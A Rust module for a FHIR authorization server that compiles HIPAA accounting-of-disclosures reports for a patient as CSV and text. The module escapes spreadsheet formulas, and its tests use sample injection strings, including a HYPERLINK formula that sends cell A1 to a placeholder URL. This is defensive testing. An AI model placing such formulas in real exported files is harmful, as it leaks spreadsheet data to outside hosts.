//! Accounting of disclosures (HIPAA 45 CFR 164.528): for one patient, every app and person that
//! obtained access to that patient's data as far as Ward can know it — launches naming the
//! patient, approvals (emergency access too) and tokens with the patient in context, introspections and policy checks
//! by resource servers, the clinician's choice in the patient picker — with times and scopes.
//! Ward sees authorizations, not the data itself: for user- and system-level tokens the FHIR
//! server's own audit log completes the picture (the report says so).

use serde::Serialize;
use serde_json::Value;

use crate::store::audit_events::{self, AuditEventRow, AuditQuery};
use crate::store::{users, DbConnection, StoreError};

/// The sentence every report carries.
pub const LIMITS: &str = "Ward records who was authorized to access this patient's data (launches, approvals, tokens with the patient in context, introspections and policy checks by FHIR servers). It does not see which records the FHIR server returned, nor accesses with user-level or system-level tokens that do not name a patient: the FHIR server's own audit log completes this accounting.";

/// One disclosure, readable for a privacy officer.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Disclosure {
    pub event_id: i64,
    /// RFC 3339, UTC.
    pub time: String,
    pub action: String,
    pub what: &'static str,
    pub app: Option<String>,
    pub user: Option<String>,
    pub scope: Option<String>,
    /// Emergency access: the justification the person gave.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub justification: Option<String>,
}

/// `Patient/123` or `123` → `123`.
pub fn patient_id(input: &str) -> &str {
    input
        .trim()
        .strip_prefix("Patient/")
        .unwrap_or(input.trim())
}

fn describe(action: &str) -> &'static str {
    match action {
        "launch.created" => "An EHR launched an app with this patient in context",
        "patient.selected" => "A clinician chose this patient for an app",
        "authorization.granted" => "Access to this patient's data was approved for an app",
        "token.issued" => "An app received a token for this patient's data",
        "break_glass.invoked" => {
            "Emergency access (break-glass): a user bypassed their role's limits for this patient"
        }
        "break_glass.refused" => "An emergency access (break-glass) to this patient was refused",
        "token.introspected" => "A FHIR server checked an app's token for this patient",
        "policy.checked" => {
            "A FHIR server asked whether an app may make a request for this patient"
        }
        _ => "Other event naming this patient",
    }
}

/// The patient's events (oldest first) between `since_ms` and `until_ms`, as audit rows.
pub fn events(
    conn: &mut DbConnection,
    patient: &str,
    since_ms: Option<i64>,
    until_ms: Option<i64>,
) -> Result<Vec<AuditEventRow>, StoreError> {
    audit_events::all_matching(
        conn,
        &AuditQuery {
            patient: Some(patient_id(patient).to_owned()),
            since_ms,
            until_ms,
            ..AuditQuery::default()
        },
    )
}

/// The rows as disclosures, with user ids resolved to usernames where the user still exists.
pub fn disclosures(
    conn: &mut DbConnection,
    rows: &[AuditEventRow],
) -> Result<Vec<Disclosure>, StoreError> {
    let mut out = Vec::new();
    for row in rows {
        let details: Value = serde_json::from_str(&row.details).unwrap_or(Value::Null);
        let user = match &row.actor_user {
            Some(id) => Some(
                users::find_by_id(conn, id)?
                    .map(|u| u.username)
                    .unwrap_or_else(|| id.clone()),
            ),
            None => None,
        };
        let app = details["client_id"]
            .as_str()
            .map(str::to_owned)
            .or_else(|| row.actor_client.clone());
        out.push(Disclosure {
            event_id: row.id,
            time: crate::clock::format_millis(row.occurred_at),
            action: row.action.clone(),
            what: describe(&row.action),
            app,
            user,
            scope: details["scope"].as_str().map(str::to_owned),
            justification: (row.action == "break_glass.invoked")
                .then(|| details["reason"].as_str().map(str::to_owned))
                .flatten(),
        });
    }
    Ok(out)
}

/// One RFC 4180 field. A field that a spreadsheet would read as a formula (it starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return — a break-glass reason is free text) gets a
/// leading `'` so it stays text (OWASP "CSV injection").
fn csv_field(text: &str) -> String {
    let text = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    };
    if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text
    }
}

/// CSV with a header line (RFC 4180 quoting).
pub fn to_csv(items: &[Disclosure]) -> String {
    let mut out = String::from("time,action,description,app,user,scope,event_id,justification\r\n");
    for d in items {
        let fields = [
            d.time.clone(),
            d.action.clone(),
            d.what.to_owned(),
            d.app.clone().unwrap_or_default(),
            d.user.clone().unwrap_or_default(),
            d.scope.clone().unwrap_or_default(),
            d.event_id.to_string(),
            d.justification.clone().unwrap_or_default(),
        ];
        out.push_str(
            &fields
                .iter()
                .map(|f| csv_field(f))
                .collect::<Vec<_>>()
                .join(","),
        );
        out.push_str("\r\n");
    }
    out
}

/// A plain-text report for a privacy officer.
pub fn to_text(patient: &str, items: &[Disclosure]) -> String {
    let mut out = format!(
        "Accounting of disclosures for Patient/{}: {} event(s)\n\n",
        patient_id(patient),
        items.len()
    );
    for d in items {
        out.push_str(&format!(
            "{}  {}\n    app: {}  user: {}\n",
            d.time,
            d.what,
            d.app.as_deref().unwrap_or("-"),
            d.user.as_deref().unwrap_or("-")
        ));
        if let Some(scope) = &d.scope {
            out.push_str(&format!("    scope: {scope}\n"));
        }
        if let Some(why) = &d.justification {
            out.push_str(&format!("    justification: {why}\n"));
        }
    }
    out.push_str(&format!("\n{LIMITS}\n"));
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn patient_references_normalise_to_ids() {
        assert_eq!(patient_id("Patient/123"), "123");
        assert_eq!(patient_id(" 123 "), "123");
    }

    #[test]
    fn csv_fields_never_start_a_formula() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(
            csv_field("=HYPERLINK(\"https://x/?\"&A1,\"details\")"),
            "\"'=HYPERLINK(\"\"https://x/?\"\"&A1,\"\"details\"\")\""
        );
        for risky in ["+1", "-1", "@SUM(A1)", "\tx"] {
            assert!(
                csv_field(risky).trim_start_matches('"').starts_with('\''),
                "{risky}"
            );
        }
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let d = Disclosure {
            event_id: 7,
            time: "2026-12-05T00:00:00.000Z".into(),
            action: "token.issued".into(),
            what: describe("token.issued"),
            app: Some("growth, \"chart\"".into()),
            user: None,
            scope: Some("patient/*.rs".into()),
            justification: None,
        };
        let csv = to_csv(&[d]);
        let line = csv.lines().nth(1).unwrap();
        assert!(line.contains("\"growth, \"\"chart\"\"\""), "{line}");
        assert!(line.ends_with(",7,"), "{line}");
        assert!(to_text("Patient/1", &[]).contains("FHIR server's own audit log"));
    }
}
